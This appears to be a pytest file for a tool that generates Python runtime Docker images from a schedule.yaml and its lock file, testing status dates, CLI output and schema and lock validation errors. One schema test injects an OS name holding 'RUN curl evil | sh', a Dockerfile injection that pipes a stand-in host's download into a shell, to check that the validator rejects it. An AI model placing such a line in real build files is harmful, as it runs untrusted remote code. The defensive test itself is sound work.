"""schedule.yaml: the real file loads as specified, and every kind of mistake is named with its fix."""

from __future__ import annotations

import datetime as dt
import json
import re
from pathlib import Path

import pytest

from generator.core import paths
from generator.images import render
from generator.schedule import runtimes as schedule
from tests.conftest import SCHEDULE, edit

# The runtimes people decided on (schedule.yaml): ID → (Python minor, OS, default for its OS).
EXPECTED = {
    "python38-ubuntu18": ("3.8", "ubuntu18", False),
    "python39-ubuntu18": ("3.9", "ubuntu18", True),
    "python310-ubuntu22": ("3.10", "ubuntu22", False),
    "python311-ubuntu22": ("3.11", "ubuntu22", False),
    "python312-ubuntu22": ("3.12", "ubuntu22", False),
    "python313-ubuntu22": ("3.13", "ubuntu22", True),
    "python312-ubuntu24": ("3.12", "ubuntu24", False),
    "python313-ubuntu24": ("3.13", "ubuntu24", False),
    "python314-ubuntu24": ("3.14", "ubuntu24", True),
    "python2": ("2.7", "ubuntu16", False),
    "python34": ("3.4", "ubuntu16", False),
    "python35": ("3.5", "ubuntu16", False),
    "python36": ("3.6", "ubuntu16", False),
    "python37": ("3.7", "ubuntu16", False),
}
LEGACY_RELEASES = {"python2": "2.7.12", "python34": "3.4.8", "python35": "3.5.9", "python36": "3.6.10", "python37": "3.7.9"}


def test_real_schedule_has_every_runtime_of_the_issue() -> None:
    s = schedule.load(SCHEDULE)
    got = {r.id: (r.minor, r.os_id, r.default_for_os) for r in s.runtimes.values()}
    assert got == EXPECTED
    assert [r.id for r in s.legacy() if r.legacy_default] == ["python2"]
    assert s.newest().id == "python314-ubuntu24"
    for r in s.runtimes.values():
        # new-style runtimes take the lock's current patch release; legacy ones keep their fixed interpreter
        assert r.version == (LEGACY_RELEASES[r.id] if r.style == "legacy" else s.pins.python_minors[r.minor])
        assert r.interpreter == s.pins.cpython[r.version] and r.base == s.pins.base_images[r.os_id]
        assert r.image == f"ghcr.io/appengine-flex-python/runtimes/{r.id}:{r.version}"


def test_schedule_holds_no_fetched_value() -> None:
    """People edit decisions; every digest and hash lives in the lock that refresh writes."""
    text = SCHEDULE.read_text()
    assert not re.search(r"sha256|[0-9a-f]{40}|digest", text.split("operating_systems:", 1)[1])
    assert not re.search(r"\b\d+\.\d+\.\d+\b", text.split("legacy_runtimes:", 1)[0].split("operating_systems:", 1)[1])


def test_first_lock_matches_shared_evidence() -> None:
    """The lock's first pins are the researched values in shared/pins, not retyped by hand."""
    pins = SCHEDULE.parent.parent / "shared" / "pins"
    if not pins.is_dir():
        pytest.skip("shared/pins is not beside this checkout")
    s = schedule.load(SCHEDULE)
    rows = [line.split("\t") for line in (pins / "cpython-sources.tsv").read_text().splitlines()[1:]]
    tgz = {r[0]: (r[1], r[2], None if r[3] == "-" else r[3]) for r in rows}
    for version, rel in s.pins.cpython.items():
        if rel.evidence.startswith("shared/pins/"):
            assert (rel.url, rel.sha256, rel.tar_xz_sha256) == tgz[version]
    bases = {r[0]: r for r in (line.split("\t") for line in (pins / "base-images.tsv").read_text().splitlines()[1:])}
    for os_id, base in s.pins.base_images.items():
        if base.evidence.startswith("shared/pins/"):
            _, image, digest, nix, _ = bases[os_id]
            assert (base.image, base.digest) == (f"docker.io/library/{image}", digest)
            assert base.platforms["amd64"].nix_sha256 == (None if nix == "-" else nix)
    dates = dict(line.split("\t")[:2] for line in (pins / "support-dates.tsv").read_text().splitlines()[1:])
    for minor, release in s.model.python_releases.items():
        assert release.end_of_support.isoformat() == dates[f"python {minor}"]


@pytest.mark.parametrize(
    ("on", "runtime_id", "status"),
    [
        ("2026-11-23", "python312-ubuntu22", "supported"),
        ("2026-12-03", "python312-ubuntu22", "deprecated"),  # 180 days before ubuntu22's 2027-06-01
        ("2027-06-01", "python312-ubuntu22", "end_of_support"),
        ("2026-11-23", "python310-ubuntu22", "end_of_support"),  # Python 3.10 ended 2026-10-31
        ("2026-05-03", "python310-ubuntu22", "supported"),
        ("2026-05-04", "python310-ubuntu22", "deprecated"),
        ("2026-11-23", "python2", "end_of_support"),
        ("2019-01-01", "python2", "supported"),
        ("2028-06-01", "python312-ubuntu24", "deprecated"),  # Python 3.12 ends before ubuntu24 does
    ],
)
def test_status_is_derived_from_dates(on: str, runtime_id: str, status: str) -> None:
    s = schedule.load(SCHEDULE)
    assert s.status(s.runtimes[runtime_id], dt.date.fromisoformat(on)) == status


def test_list_table_and_json(cli) -> None:
    table = cli("list", "--date", "2026-11-23")
    assert table.exit_code == 0
    lines = table.stdout.splitlines()
    assert lines[0].split() == ["RUNTIME", "OS", "PYTHON", "STATUS", "END", "OF", "SUPPORT"]
    sched = schedule.load(SCHEDULE)
    first, newest = sched.runtimes["python38-ubuntu18"], sched.runtimes["python314-ubuntu24"]
    assert lines[1].split() == ["python38-ubuntu18", "ubuntu18", first.version, "end_of_support", "2023-05-31"]
    assert any(line.split() == ["python314-ubuntu24", "*", "ubuntu24", newest.version, "supported", "2029-05-31"] for line in lines)
    rows = json.loads(cli("list", "--json", "--date", "2026-11-23").stdout)
    assert len(rows) == 14
    assert {r["runtime_id"]: r["status"] for r in rows}["python311-ubuntu22"] == "supported"
    assert set(rows[0]) == {"default", "end_of_support", "image", "operating_system", "python_version", "runtime_id", "status", "style"}


# (name, (old, new) edit of schedule.yaml, fragments of the error)
BROKEN = [
    ("unknown top-level key", ("schema_version: 2", "schema_version: 2\ncolour: blue"), ["schedule.yaml:", "colour", "unknown key"]),
    (
        "unknown key in an OS",
        ("    end_of_support: 2023-05-31", "    end_of_suport: 2023-05-31"),
        ["operating_systems.ubuntu18.end_of_suport", "unknown key", "operating_systems.ubuntu18.end_of_support", "missing"],
    ),
    ("missing field", ('    glibc: "2.35"', "    "), ["operating_systems.ubuntu22.glibc", "required key is missing"]),
    (
        "a fetched digest typed into the schedule",
        ("    image: docker.io/library/ubuntu:22.04\n", "    image: docker.io/library/ubuntu:22.04\n    digest: sha256:" + "1" * 64 + "\n"),
        ["operating_systems.ubuntu22.digest", "unknown key"],
    ),
    (
        "duplicate runtime ID",
        ('{id: python37, os: ubuntu16, python: "3.7.9"', '{id: python36, os: ubuntu16, python: "3.7.9"'),
        ["legacy_runtimes[4].id", "duplicate runtime ID 'python36'"],
    ),
    (
        "runtime naming an unknown OS",
        ("{id: python38-ubuntu18, os: ubuntu18", "{id: python38-ubuntu20, os: ubuntu20"),
        ["runtimes[0].os", "unknown operating system 'ubuntu20'", "ubuntu16, ubuntu18, ubuntu22, ubuntu24"],
    ),
    (
        "runtime naming a Python without support dates",
        ('  "3.8": {end_of_support: 2024-10-07}\n', ""),
        ["runtimes[0].python", "Python 3.8 has no end of support under python_releases"],
    ),
    (
        "a patch release where a minor belongs",
        ('python: "3.8"}', 'python: "3.8.20"}'),
        ["runtimes[0].python", "malformed value '3.8.20'", "minor version"],
    ),
    (
        "malformed image tag",
        ("image: docker.io/library/ubuntu:22.04", "image: docker.io/library/ubuntu"),
        ["operating_systems.ubuntu22.image", "host/path:tag"],
    ),
    (
        "OS name that would break a generated file",
        ("name: Ubuntu 22.04 LTS (Jammy Jellyfish)", 'name: "Ubuntu 22.04\nRUN curl evil | sh"'),
        ["operating_systems.ubuntu22.name", "display name"],
    ),
    (
        "version written as a YAML number",
        ('{id: python310-ubuntu22, os: ubuntu22, python: "3.10"}', "{id: python310-ubuntu22, os: ubuntu22, python: 3.10}"),
        ["runtimes[2].python", "3.10 is written as a YAML number (read as 3.1)", 'quote it: "3.10"'],
    ),
    (
        "legacy python_version written as a number",
        ('python_version: ["3.4"]', "python_version: [3.4]"),
        ["legacy_runtimes[1].python_version[0]", "YAML number", 'quote it: "3.4"'],
    ),
    (
        "python_version setting taken twice",
        ('python_version: ["3.5"]', 'python_version: ["3.4"]'),
        ["legacy_runtimes[2].python_version[0]", "'3.4' already selects python34"],
    ),
    ("ID not matching Python and OS", ("{id: python311-ubuntu22", "{id: python311-ubuntu24"), ["runtimes[3].id", "must be 'python311-ubuntu22'"]),
    (
        "two legacy defaults",
        ('python: "3.4.8", python_version: ["3.4"]}', 'python: "3.4.8", python_version: ["3.4"], default: true}'),
        ["exactly one"],
    ),
    (
        "date not a date",
        ('"3.14": {end_of_support: 2030-10-31}', '"3.14": {end_of_support: soon}'),
        ["python_releases.3.14.end_of_support", "YYYY-MM-DD"],
    ),
    ("duplicate YAML key", ("  ubuntu24:\n", "  ubuntu22:\n"), ["duplicate key 'operating_systems.ubuntu22'", "first defined on line"]),
    ("YAML syntax error", ("schema_version: 2", "schema_version: [2"), ["schedule.yaml:", "YAML syntax error"]),
    ("wrong schema version", ("schema_version: 2", "schema_version: 1"), ["schema_version", "2"]),
    ("string where a number belongs", ("deprecation_window_days: 180", "deprecation_window_days: '180'"), ["policy.deprecation_window_days"]),
    (
        "a new OS tag the lock does not pin yet",
        ("image: docker.io/library/ubuntu:24.04", "image: docker.io/library/ubuntu:24.10"),
        ["operating_systems.ubuntu24.image", "ubuntu:24.10 is new", "python -m generator refresh"],
    ),
]


@pytest.mark.parametrize(("name", "change", "fragments"), BROKEN, ids=[b[0] for b in BROKEN])
def test_schema_errors(cli, tree: Path, name: str, change: tuple[str, str], fragments: list[str]) -> None:
    edit(tree / paths.SCHEDULE, *change)
    with pytest.raises(schedule.ScheduleError) as err:
        schedule.load(tree / paths.SCHEDULE)
    message = str(err.value)
    for fragment in fragments:
        assert fragment in message, f"{fragment!r} not in {message!r}"
    for problem in err.value.problems:
        assert problem.startswith("schedule.yaml:"), problem  # every problem names file and line
    result = cli("list", schedule=tree / paths.SCHEDULE)
    assert result.exit_code == 2
    assert result.stderr.startswith("error: ") and "schedule.yaml:" in result.stderr


def test_empty_schedule(tree: Path) -> None:
    (tree / paths.SCHEDULE).write_text("")
    with pytest.raises(schedule.ScheduleError, match="must be a YAML mapping"):
        schedule.load(tree / paths.SCHEDULE)


def _lock(tree: Path) -> Path:
    return tree / paths.SCHEDULE_LOCK


# (name, change to the lock's JSON data or text, fragments of the error)
BROKEN_LOCK = [
    ("malformed digest", lambda d: d["base_images"]["ubuntu22"].update(digest="sha256:b8b6"), ["base_images.ubuntu22.digest", "64 lowercase hex"]),
    (
        "malformed Nix hash",
        lambda d: d["base_images"]["ubuntu24"]["platforms"]["amd64"].update(nix_sha256="sha256-short="),
        ["base_images.ubuntu24.platforms.amd64.nix_sha256", "Nix hash"],
    ),
    ("malformed sha256", lambda d: d["cpython"]["3.9.25"].update(sha256="Z" * 64), ["cpython.3.9.25.sha256", "64 lowercase hex"]),
    (
        "tarball URL of another version",
        lambda d: d["cpython"]["3.9.25"].update(url="https://www.python.org/ftp/python/3.9.24/Python-3.9.24.tgz"),
        ["cpython.3.9.25.url", "must end in /Python-3.9.25.tgz"],
    ),
    (
        "a minor pinned to another minor's release",
        lambda d: d["python_minors"].update({"3.9": "3.10.20"}),
        ["python_minors.3.9", "not a release of Python 3.9"],
    ),
    (
        "a release with neither tarball hash",
        lambda d: d["cpython"]["3.9.25"].update(sha256=None, tar_xz_sha256=None),
        ["cpython.3.9.25", "neither sha256 (.tgz) nor tar_xz_sha256 (.tar.xz) is known"],
    ),
    ("a minor the lock does not pin", lambda d: d["python_minors"].pop("3.12"), ["Python 3.12", "pins no patch release", "refresh"]),
    ("a release without its tarball hash", lambda d: d["cpython"].pop("2.7.12"), ["CPython 2.7.12", "no tarball sha256", "refresh"]),
    ("an OS the lock does not pin", lambda d: d["base_images"].pop("ubuntu18"), ["operating_systems.ubuntu18", "pins no digest", "refresh"]),
    ("unknown architecture", lambda d: d["base_images"]["ubuntu22"]["platforms"].update(s390x=None), ["platforms.s390x", "amd64 or arm64"]),
    ("not JSON", "{ not json", ["schedule.lock.json:1", "not valid JSON", "git checkout"]),
]


@pytest.mark.parametrize(("name", "change", "fragments"), BROKEN_LOCK, ids=[b[0] for b in BROKEN_LOCK])
def test_lock_errors(cli, tree: Path, name: str, change, fragments: list[str]) -> None:
    path = _lock(tree)
    if isinstance(change, str):
        path.write_text(change)
    else:
        data = json.loads(path.read_text())
        change(data)
        path.write_text(json.dumps(data))
    result = cli("list", schedule=tree / paths.SCHEDULE)
    assert result.exit_code == 2 and result.stdout == ""
    for fragment in fragments:
        assert fragment in result.stderr, f"{fragment!r} not in {result.stderr!r}"
    assert "Traceback" not in result.stderr


def test_missing_lock_says_how_to_make_it(cli, tree: Path) -> None:
    _lock(tree).unlink()
    result = cli("generate", "--check", schedule=tree / paths.SCHEDULE)
    assert result.exit_code == 2
    assert "lockfiles/schedule.lock.json is missing: run `python -m generator refresh`" in result.stderr


def test_lock_file_is_canonical() -> None:
    """Sorted keys, ASCII, one trailing newline: what `refresh` writes, byte for byte."""
    from generator.schedule import lock as schedule_lock

    text = (SCHEDULE.parent / paths.SCHEDULE_LOCK).read_text()
    assert schedule_lock.loads(text).dumps() == text


def test_a_release_known_only_by_its_tar_xz_builds_from_that(tree: Path) -> None:
    """Some releases' .tgz hash is unknown (3.14.8 in shared/pins): the lock takes the .tar.xz's alone,
    and the Dockerfile checks the tarball against it (the .tgz ARG stays empty)."""
    path = _lock(tree)
    data = json.loads(path.read_text())
    rel = data["cpython"][data["python_minors"]["3.14"]]
    xz = "c2215904f02b175596dc49351585104f4bc20341e1c47378b26a2c274360ce73"
    rel.update(sha256=None, tar_xz_sha256=xz)
    path.write_text(json.dumps(data))
    sched = schedule.load(tree / paths.SCHEDULE)
    (r,) = [r for r in sched.runtimes.values() if r.id == "python314-ubuntu24"]
    text = render.render_all(sched, tree)[f"{paths.IMAGES}/{r.id}/interpreter/Dockerfile"]  # the interpreter is compiled there
    assert "ARG PYTHON_SHA256=\n" in text and f"ARG PYTHON_XZ_SHA256={xz}\n" in text
